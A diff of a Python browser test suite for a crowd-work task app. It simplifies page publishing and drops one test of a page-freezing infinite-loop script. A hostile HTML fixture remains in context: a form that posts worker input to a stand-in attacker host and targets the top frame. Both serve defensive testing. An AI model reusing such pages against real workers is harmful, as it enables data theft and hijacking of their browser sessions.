@@ -11,7 +11,7 @@ from collections.abc import Iterator
 from dataclasses import dataclass
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from typing import Any, Literal
+from typing import Any
 from urllib.parse import unquote
 from xml.sax.saxutils import escape
 
@@ -40,7 +40,6 @@ from workbench.web.app import create_app
 
 __all__ = ["browser"]
 PATIENCE_MS = 20_000
-Until = Literal["load", "commit"]
 HOSTILE = """<!doctype html><html><head><title>Mine</title></head><body>
 <form name="mturk_form" action="https://evil.example/take" method="post" target="_top">
 <label>Tag <input name="tag"></label></form>
@@ -87,15 +86,15 @@ class Stage:
         """What a requester's program asks."""
         return OPERATIONS[operation](Call(self.ctx, self.requester, operation, given, self.ctx.now()))
 
-    def publish(self, html: str, *, until: Until = "load") -> dict[str, Any]:
-        """A HIT with this page, which the worker then opens. `until`: "commit" where the page is never loaded."""
+    def publish(self, html: str) -> dict[str, Any]:
+        """A HIT with this page, which the worker then opens."""
         content = f"<HTMLContent>{escape(html)}</HTMLContent><FrameHeight>0</FrameHeight>"
-        return self.offer(f'<HTMLQuestion xmlns="{NAMESPACES}/2011-11-11/HTMLQuestion.xsd">{content}</HTMLQuestion>', until=until)
+        return self.offer(f'<HTMLQuestion xmlns="{NAMESPACES}/2011-11-11/HTMLQuestion.xsd">{content}</HTMLQuestion>')
 
-    def offer(self, question: str, *, until: Until = "load") -> dict[str, Any]:
+    def offer(self, question: str) -> dict[str, Any]:
         """A HIT with this question, which the worker then opens."""
         hit = self.ask("CreateHIT", **{**TYPE, "Reward": "5.00"}, LifetimeInSeconds=86_400, Question=question)["HIT"]
-        self.page.goto(f"{self.url}/work/next", wait_until=until)
+        self.page.goto(f"{self.url}/work/next")
         expect(self.page.locator("framed-page iframe")).to_be_visible(timeout=PATIENCE_MS)
         return dict(hit)
 
@@ -256,16 +255,6 @@ def test_a_script_that_never_ends_leaves_the_page_around_alone(stage: Stage) -> 
     expect(stage.page.get_by_role("status").filter(has_text="does not answer")).to_be_visible(timeout=PATIENCE_MS)
     stage.page.get_by_text("Something is wrong", exact=True).click()
     stage.page.get_by_role("button", name="I cannot see it well").click()
-    expect(stage.page.locator("framed-page")).to_have_count(0, timeout=PATIENCE_MS)
-
-
-def test_a_script_that_never_ends_from_the_start_leaves_the_page_around_alone(stage: Stage) -> None:
-    """Also where the page is never ready: it says nothing, the way out is there, and the next question comes."""
-    stage.publish("<p>Wait</p><script>for (;;) {}</script>", until="commit")
-    stage.page.get_by_role("button", name="Send", exact=True).click(no_wait_after=True)
-    expect(stage.page.get_by_role("status").filter(has_text="does not answer")).to_be_visible(timeout=PATIENCE_MS)
-    stage.page.get_by_text("Something is wrong", exact=True).click(no_wait_after=True)
-    stage.page.get_by_role("button", name="I cannot see it well").click(no_wait_after=True)
     expect(stage.page.locator("framed-page")).to_have_count(0, timeout=PATIENCE_MS)
 
 
